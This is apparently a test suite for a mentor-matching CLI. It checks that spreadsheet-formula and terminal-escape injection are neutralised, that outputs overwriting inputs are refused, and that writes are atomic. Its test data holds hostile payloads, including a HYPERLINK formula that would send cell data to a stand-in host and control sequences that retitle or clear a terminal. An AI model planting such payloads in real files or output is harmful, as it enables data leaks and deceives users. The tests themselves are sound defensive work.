/**
 * Issue 12, the command line's outputs (the built binary): no live formula in the pairs
 * CSV, no terminal escape from the data, no output that overwrites an input or another
 * output, all outputs or none, and file-system errors as a one-line message with an exit
 * code (a closed stdout pipe ends quietly).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { CLI, COHORT, HISTORY, RAW_CONTROL, sandbox, type CliRun, type Sandbox } from '../_helpers/cli-sandbox.js';

import { EXIT } from '../../src/cli/exit-codes.js';

let box: Sandbox;
let dir: string;
const cli = (...args: string[]): CliRun => box.cli(args);
const file = (name: string, text: string): string => box.file(name, text);
const read = (name: string): string => box.read(name);

beforeAll(() => {
  box = sandbox('mentor-match-hostile-');
  dir = box.dir;
});
afterAll(() => box.remove());


describe('formula injection: the pairs CSV (match --out)', () => {
  const FORMULAS = [
    'id,name,role,skills_offered,skills_wanted,capacity',
    'm1,"=HYPERLINK(""http://x/?""&A1,""x"")",mentor,go:5,,3',
    'e1,@SUM(1+1),mentee,,go:2,',
    '+e2,-2+3,mentee,,go:3,',
    'e3,"\t=1+1",mentee,,go:3,', // a leading tab is trimmed on input: it arrives as =1+1
  ].join('\n');

  it('neutralises every text cell that starts with = + - @ (a leading quote); scores stay numbers', () => {
    file('formulas.csv', FORMULAS);
    const r = cli('match', 'formulas.csv', '--out', 'f.csv', '-q');
    expect(r.code, r.err).toBe(EXIT.ok);
    const rows = parse(read('f.csv'), { columns: true }) as Record<string, string>[];
    expect(new Map(rows.map((x) => [x.mentee_id, x.mentee_name]))).toEqual(
      new Map([
        ['e1', "'@SUM(1+1)"],
        ["'+e2", "'-2+3"],
        ['e3', "'=1+1"],
      ]),
    );
    expect(rows.every((x) => x.mentor_name === '\'=HYPERLINK("http://x/?"&A1,"x")')).toBe(true);
    expect(rows.every((x) => /^\d+(\.\d+)?$/.test(x.score!))).toBe(true);
    for (const x of rows) for (const v of Object.values(x)) expect(v).not.toMatch(/^[=+\-@\t\r]/u);
  });

  it('--no-escape-formulas writes the cells as they are', () => {
    file('formulas.csv', FORMULAS);
    expect(cli('match', 'formulas.csv', '--out', 'raw.csv', '-q', '--no-escape-formulas').code).toBe(EXIT.ok);
    const rows = parse(read('raw.csv'), { columns: true }) as Record<string, string>[];
    expect(rows.find((x) => x.mentee_id === 'e1')!.mentee_name).toBe('@SUM(1+1)');
    expect(rows[0]!.mentor_name).toBe('=HYPERLINK("http://x/?"&A1,"x")');
  });
});

describe('terminal escapes from the data', () => {
  const ESCAPES = [
    'id,name,role,time_zone,skills_offered,skills_wanted',
    'm1,"Ana\u001b]0;PWNED\u0007",mentor,UTC,go:5,',
    'e1,"Bo\u001b[2J\u202e",mentee,UTC,,go:2',
    'e\u001b[31m2,Cy,mentee,Mars/\u001b[2JBase,,go:2',
    'e3,"Dee\nerror: forged",mentee,UTC,,go:2',
  ].join('\n');

  it('recommend, explain, validate, match and the issue lines show them escaped, never raw', () => {
    file('esc.csv', ESCAPES);
    const runs = [
      cli('recommend', 'esc.csv', '--for', 'm1'),
      cli('explain', 'esc.csv', '--pair', 'e1,m1'),
      cli('explain', 'esc.csv', '--pair', 'e3,m1'),
      cli('validate', 'esc.csv'),
      cli('validate', 'esc.csv', '--json'),
      cli('match', 'esc.csv', '--no-audits'),
      cli('recommend', 'esc.csv', '--for', 'm1', '--json'),
    ];
    for (const r of runs) {
      expect(r.out + r.err).not.toMatch(RAW_CONTROL);
    }
    const [rec, explain, forged, validate, validateJson] = runs;
    expect(rec!.out).toContain('Top 2 for Ana\\u001b]0;PWNED\\u0007 (m1):');
    expect(rec!.out).toContain('Bo\\u001b[2J\\u202e');
    expect(explain!.out).toMatch(/^Bo\\u001b\[2J\\u202e \(e1\) and Ana\\u001b\]0;PWNED\\u0007 \(m1\): score/);
    // A line break inside a name cannot start a line of its own.
    expect(forged!.out).toMatch(/^Dee\\nerror: forged \(e3\) and /);
    expect(forged!.out).not.toMatch(/^error: forged/m);
    expect(validate!.out).toContain("row 4, column 'time_zone' (participant e\\u001b[31m2)");
    expect(validate!.err).toBe('');
    // --json stays JSON with the same values.
    const json = JSON.parse(validateJson!.out) as { issues: { participant: string }[] };
    expect(json.issues[0]!.participant).toBe('e\u001b[31m2');
    // Every row of the recommend table has the same width up to the score column.
    const table = rec!.out.split('\n').filter((l) => /^\d\s/.test(l));
    expect(new Set(table.map((l) => l.search(/\s\d+\s+\d+\s+(yes|no)\s/))).size).toBe(1);
  });
});

describe('outputs that would overwrite an input or each other are refused (exit 2)', () => {
  it('match: an output equal to the cohort, a --mentors/--mentees/--config/--columns file, or another output', () => {
    file('in.csv', readFileSync(COHORT, 'utf8'));
    file('conf.json', '{}');
    file('map.json', '{ "columns": {} }');
    const before = read('in.csv');
    const cases: [string[], RegExp][] = [
      [['match', 'in.csv', '--out', 'in.csv'], /^mentor-match: --out and the cohort argument are the same file \(in\.csv\): an output would overwrite an input; choose another --out$/m],
      [['match', 'in.csv', '--json', './in.csv'], /--json and the cohort argument are the same file \(\.\/in\.csv and in\.csv\)/],
      [['match', 'in.csv', '--config', 'conf.json', '--report', 'conf.json'], /--report and --config are the same file \(conf\.json\)/],
      [['match', 'in.csv', '--columns', 'map.json', '--out', 'map.json'], /--out and --columns are the same file/],
      [['match', '--mentors', 'in.csv', '--mentees', 'in.csv', '--json', 'in.csv'], /--json and --mentors are the same file/],
      [['match', 'in.csv', '--out', 'r.out', '--json', 'r.out', '--report', 'r.out'], /^mentor-match: --out and --json are the same file \(r\.out\): one output would overwrite the other; give each output its own path$/m],
    ];
    for (const [args, message] of cases) {
      const r = cli(...args);
      expect(r.code, args.join(' ')).toBe(EXIT.usage);
      expect(r.err).toMatch(message);
      expect(r.err.trim().split('\n')).toHaveLength(1);
    }
    expect(read('in.csv')).toBe(before);
    expect(read('conf.json')).toBe('{}');
    expect(existsSync(join(dir, 'r.out'))).toBe(false);
  });

  it('match: the same file through a symbolic link or a hard link', () => {
    file('cohort2.csv', readFileSync(COHORT, 'utf8'));
    symlinkSync(join(dir, 'cohort2.csv'), join(dir, 'soft.csv'));
    linkSync(join(dir, 'cohort2.csv'), join(dir, 'hard.csv'));
    const before = read('cohort2.csv');
    expect(cli('match', 'cohort2.csv', '--out', 'soft.csv').code).toBe(EXIT.usage);
    expect(cli('match', 'cohort2.csv', '--out', 'hard.csv').code).toBe(EXIT.usage);
    expect(cli('match', 'soft.csv', '--json', 'out.json', '--out', 'out.json').code).toBe(EXIT.usage);
    expect(read('cohort2.csv')).toBe(before);
  });

  it('calibrate: --out equal to the history, the cohort or the config', () => {
    file('h.csv', readFileSync(HISTORY, 'utf8'));
    file('c.csv', readFileSync(COHORT, 'utf8'));
    file('base.json', '{}');
    const history = read('h.csv');
    const a = cli('calibrate', 'h.csv', '--cohort', 'c.csv', '--out', 'h.csv');
    expect(a.code).toBe(EXIT.usage);
    expect(a.err).toMatch(/--out and the history argument are the same file \(h\.csv\)/);
    expect(cli('calibrate', 'h.csv', '--cohort', 'c.csv', '--out', 'c.csv').err).toMatch(/--out and --cohort are the same file/);
    expect(cli('calibrate', 'h.csv', '--cohort', 'c.csv', '--config', 'base.json', '--out', 'base.json').err).toMatch(/--out and --config are the same file/);
    expect(read('h.csv')).toBe(history);
    expect(read('base.json')).toBe('{}');
  });
});

describe('all outputs or none; file-system errors (exit 7)', () => {
  it('--help documents exit code 7 and the all-or-nothing writes; match --help the --no-escape-formulas flag', () => {
    const help = cli('--help').out;
    expect(help).toMatch(/^ {2}7 {2}an output file could not be written/m);
    expect(help).toMatch(/Ctrl-C: exit 130, kill: 143/);
    expect(help).toMatch(/output path that is also an input, or another output, is refused \(exit 2\)/);
    expect(cli('match', '--help').out).toContain('--no-escape-formulas');
  });

  const SMALL = 'id,name,role,skills_offered,skills_wanted\nm1,Ana,mentor,go:5,\ne1,Bo,mentee,,go:2\n';

  it('a run whose last output cannot be written changes none of them and leaves no temporary file', () => {
    file('small.csv', SMALL);
    file('keep/m.csv', 'old pairs\n');
    mkdirSync(join(dir, 'keep/adir'));
    const r = cli('match', 'small.csv', '--out', 'keep/m.csv', '--json', 'keep/adir', '-q');
    expect(r.code).toBe(EXIT.io);
    expect(r.err.trim()).toBe('mentor-match: cannot write --json keep/adir: it is a folder (EISDIR); give a file name, e.g. a path ending in the file to write; no output was changed');
    expect(read('keep/m.csv')).toBe('old pairs\n');
    expect(readdirSync(join(dir, 'keep')).sort()).toEqual(['adir', 'm.csv']);
  });

  it('a file where a folder should be (ENOTDIR), a full disk (ENOSPC): one line naming the path, no stack', () => {
    file('small.csv', SMALL);
    file('plain', '');
    const a = cli('match', 'small.csv', '--out', 'plain/m.csv', '-q');
    expect(a.code).toBe(EXIT.io);
    expect(a.err).toMatch(/^mentor-match: cannot write --out plain\/m\.csv: a part of the path is a file, not a folder \((ENOTDIR|EEXIST)\); check the folders in the path; no output was changed\n$/);
    if (existsSync('/dev/full')) {
      const f = cli('match', 'small.csv', '--json', '/dev/full', '-q');
      expect(f.code).toBe(EXIT.io);
      expect(f.err).toMatch(/^mentor-match: cannot write --json \/dev\/full: no space left on the device \(ENOSPC\)/);
    }
    for (const r of [a]) expect(r.err).not.toMatch(/unexpected error|\n\s+at /);
  });

  it.skipIf(process.getuid?.() === 0)('a folder without write permission (EACCES)', () => {
    file('small.csv', SMALL);
    mkdirSync(join(dir, 'locked'), { mode: 0o555 });
    const r = cli('match', 'small.csv', '--out', 'locked/m.csv', '-q');
    expect(r.code).toBe(EXIT.io);
    expect(r.err).toMatch(/cannot write --out locked\/m\.csv: permission denied \(EACCES\)/);
  });

  it('a closed stdout pipe (explain … | true) ends quietly with exit 0', () => {
    // `true` exits at once: every line the command prints goes to a pipe nobody reads (EPIPE).
    for (const args of [`explain "${COHORT}" --pair E0001,E0104`, `validate "${COHORT}" --json`]) {
      const r = spawnSync('bash', ['-c', `"${process.execPath}" "${CLI}" ${args} | true; echo "status \${PIPESTATUS[0]}"`], { cwd: dir, encoding: 'utf8', timeout: 120_000 });
      expect(r.stdout.trim()).toBe('status 0');
      expect(r.stderr).toBe('');
    }
  });
});
